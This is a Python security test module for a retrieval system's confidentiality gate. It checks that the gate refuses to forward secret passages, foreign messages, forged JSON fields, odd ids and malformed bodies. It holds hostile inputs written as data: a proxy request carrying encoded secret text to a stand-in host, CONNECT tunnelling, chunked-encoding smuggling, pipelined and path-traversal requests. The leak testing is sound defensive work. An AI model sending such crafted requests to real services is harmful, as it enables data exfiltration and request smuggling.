"""Leaks by abuse of the gate's socket: what an inside gone bad might send it."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterable
from contextlib import suppress
from functools import partial

from rag.policy.labels import Label
from rag.records import ChunkId, MessageId, QuestionId
from tests.proof.leak_path import LeakPath
from tests.proof.workbench import Bench, Turn, require

POSITIONS = 9


def _public_turn(bench: Bench) -> Turn:
    turn = bench.ask(bench.paper("public").question)
    require(turn.done, "the public question was not answered")
    bench.check()
    return turn


def _public_chunks(bench: Bench, count: int) -> list[ChunkId]:
    return [chunk for number in range(count) for chunk in bench.chunks(bench.paper("public", number))][:count]


def position(bench: Bench, at: int) -> None:
    question = _public_turn(bench).question
    public = _public_chunks(bench, POSITIONS - 1)
    require(len(public) == POSITIONS - 1, "too few public passages")
    for folder in ("secret", "sealed", "unlabelled"):
        for paper in (bench.paper(folder), bench.paper(folder, 1)):
            chunks = [*public[:at], bench.chunks(paper)[0], *public[at:]]
            require(bench.at_the_door(question, chunks), "it was not refused")


def whole_store(bench: Bench) -> None:
    question = _public_turn(bench).question
    for at in range(0, 400, 20):
        bench.at_the_door(question, [ChunkId(number) for number in range(at + 1, at + 21)])
    secret = [chunk for paper in bench.papers if paper.secret for chunk in bench.chunks(paper)]
    for chunk in secret:
        require(bench.at_the_door(question, [chunk]), "a secret chunk was not refused")


def foreign_messages(bench: Bench) -> None:
    tainted = bench.ask(bench.paper("secret").question)
    require(tainted.done and bench.paper("secret").answer in tainted.done.text, "no confidential answer")
    foreign = [message.id for message in bench.store.messages(tainted.chat)]
    public = bench.ask(bench.paper("public").question)
    bench.check()
    refused = [bench.at_the_door(public.question, public.chunks, [message]) for message in foreign]
    require(len(refused) == 2 and all(refused), "a foreign message was sent")


def later_messages(bench: Bench) -> None:
    first = bench.ask(bench.paper("public").question)
    later = bench.ask(bench.paper("secret").question, first.chat)
    bench.check()
    messages = [message.id for message in bench.store.messages(first.chat) if message.id >= later.message]
    require(messages and bench.at_the_door(first.question, first.chunks, messages), "a later message was sent")


def foreign_question(bench: Bench) -> None:
    tainted = bench.ask(bench.paper("secret").question)
    public = _public_chunks(bench, 2)
    require(bench.at_the_door(tainted.question, public), "a confidential conversation's question was sent")
    switched = bench.ask(bench.paper("public").question, local_only=True)
    bench.forbid(bench.paper("public"))
    require(bench.at_the_door(switched.question, public), "a Local-only question was sent")


def confidential_question(bench: Bench) -> None:
    """A question whose own label is high, over public passages."""
    chat = bench.store.create_chat()
    text = bench.paper("secret").sentence
    question = bench.store.add_question(chat.id, text, standalone=text, own_label=Label.CONFIDENTIAL, local_only=False)
    require(bench.at_the_door(question.id, _public_chunks(bench, 2)), "a confidential question was sent")


def strange_ids(bench: Bench) -> None:
    turn = _public_turn(bench)
    secret = bench.chunks(bench.paper("secret"))[0]
    for chunks in ([2**63 - 1], [2**63], [2**200], [0], [-secret], [-1, secret], [secret + 2**32], [secret + 2**64]):
        require(bench.at_the_door(turn.question, [ChunkId(one) for one in chunks]), "a strange id was answered")
    for question in (0, -1, 2**63, 2**80, 10**9):
        require(bench.at_the_door(QuestionId(question), turn.chunks), "a strange question was answered")
    require(bench.at_the_door(turn.question, turn.chunks, [MessageId(2**63)]), "a strange message was answered")
    require(bench.at_the_door(turn.question, []), "a question without passages was sent")
    require(bench.at_the_door(turn.question, (*turn.chunks, *turn.chunks)), "a passage that comes twice was sent")


def forged(bench: Bench) -> None:
    """Further fields, other types, other spellings: the text, the label, the model, the host in the request."""
    turn = _public_turn(bench)
    secret, canary = int(bench.chunks(bench.paper("secret"))[0]), bench.paper("secret").sentence
    plain = {"question_id": int(turn.question), "chunk_ids": [int(one) for one in turn.chunks], "message_ids": []}
    forgeries: list[object] = [
        {**plain, field: value}
        for field, value in {
            "prompt": canary, "text": canary, "question": canary, "messages": [{"role": "user", "content": canary}],
            "label": "public", "labels": {str(secret): "public"}, "model": canary, "host": "203.0.113.9",
            "base_url": "http://203.0.113.9/v1", "url": "http://203.0.113.9", "headers": {"X-Text": canary},
            "api_key": "x", "settings": {"rules": {"confidential": "cloud"}}, "mode": "cloud", "confirmed": True,
            "local_only": False, "proxy": "http://203.0.113.10:3128", "tools": [{"name": canary}], "user": canary,
        }.items()
    ]  # fmt: skip
    forgeries += [{**plain, "chunk_ids": value} for value in (
        [str(secret)], [float(secret)], [True], [[secret]], {"id": secret}, secret, f"[{secret}]", None, [None],
        [{"id": secret, "label": 0}], list(range(1, 400)),
    )]  # fmt: skip
    forgeries += [{**plain, "question_id": value} for value in (canary, None, [1], True, 1.0, {"text": canary})]
    forgeries += [canary, [plain], None, 7, {}, {"question_id": 1}]
    for body in forgeries:
        require(b" 200 " not in _post(bench, json.dumps(body).encode()).split(b"\r\n")[0], f"taken: {body!r:.60}")
    twice = json.dumps(plain)[:-1] + f', "chunk_ids": [{secret}]}}'
    _post(bench, twice.encode())
    for raw in (b"", b"{", b"\xff\xfe", b"[" * 100_000, b"NaN", canary.encode()):
        require(b" 200 " not in _post(bench, raw).split(b"\r\n")[0], "a broken body was taken")


def other_requests(bench: Bench) -> None:
    """Proxy requests, other paths, other methods, smuggled and pipelined requests."""
    canary = bench.paper("secret").sentence.encode()
    host = b"Host: 203.0.113.9\r\n"
    lines = (
        b"GET http://203.0.113.9/" + canary.hex().encode() + b" HTTP/1.1\r\n" + host + b"\r\n",
        b"CONNECT 203.0.113.9:443 HTTP/1.1\r\n" + host + b"\r\n",
        b"POST /v1/chat/completions HTTP/1.1\r\n" + host + _length(canary),
        b"PUT /answer HTTP/1.1\r\n" + host + _length(canary),
        b"POST //203.0.113.9/answer HTTP/1.1\r\n" + host + _length(canary),
        b"POST /answer/../v1 HTTP/1.1\r\n" + host + _length(canary),
        b"POST /answer HTTP/1.1\r\n" + host + b"Transfer-Encoding: chunked\r\n" + _length(b"0\r\n\r\n" + canary),
        b"GET /status HTTP/1.1\r\n" + host + b"\r\nGET http://203.0.113.9/ HTTP/1.1\r\n" + host + b"\r\n",
        b"POST /answer HTTP/1.1\r\n" + host + b"X-Forwarded-Host: 203.0.113.9\r\n" + _length(canary),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    )
    for line in lines:
        _exchange(bench, line)
    require(b" 200 " in _exchange(bench, b"GET /status HTTP/1.1\r\nHost: gate\r\n\r\n"), "the gate is gone")
    require(not bench.check(), "something was sent")


def _length(body: bytes) -> bytes:
    return b"Content-Length: %d\r\n\r\n" % len(body) + body


def _post(bench: Bench, body: bytes) -> bytes:
    head = b"POST /answer HTTP/1.1\r\nHost: gate\r\nConnection: close\r\nContent-Type: application/json\r\n"
    return _exchange(bench, head + _length(body))


def _exchange(bench: Bench, data: bytes) -> bytes:
    """What comes back until the gate closes, or is silent for a while. Our end stays open: leaving would cancel."""
    received = b""
    with socket.socket(socket.AF_UNIX) as caller:
        caller.settimeout(0.3)
        caller.connect(str(bench.gate._path))
        with suppress(OSError):
            caller.sendall(data)
            while part := caller.recv(65536):
                received += part
    return received


def _positions(positions: Iterable[int]) -> tuple[LeakPath, ...]:
    return tuple(
        LeakPath(
            f"position-{at + 1}",
            f"One secret passage among {POSITIONS - 1} public ones, at position {at + 1}, asked of the gate itself",
            partial(position, at=at),
        )
        for at in positions
    )


PATHS = (
    *_positions(range(POSITIONS)),
    LeakPath("door-every-chunk", "Every stored chunk asked of the gate by id", whole_store),
    LeakPath("door-foreign-message", "Messages of another conversation named at the gate", foreign_messages),
    LeakPath("door-later-message", "Later messages of the same conversation named at the gate", later_messages),
    LeakPath(
        "door-foreign-question", "Questions of confidential and Local-only conversations at the gate", foreign_question
    ),
    LeakPath("door-question", "A confidential question over public passages at the gate", confidential_question),
    LeakPath("door-ids", "Huge, negative and wrapped ids at the gate", strange_ids),
    LeakPath("door-forged", "Forged fields at the gate: text, label, model, host, key, settings", forged),
    LeakPath("door-requests", "Proxy, CONNECT, smuggled and other requests at the gate", other_requests),
)
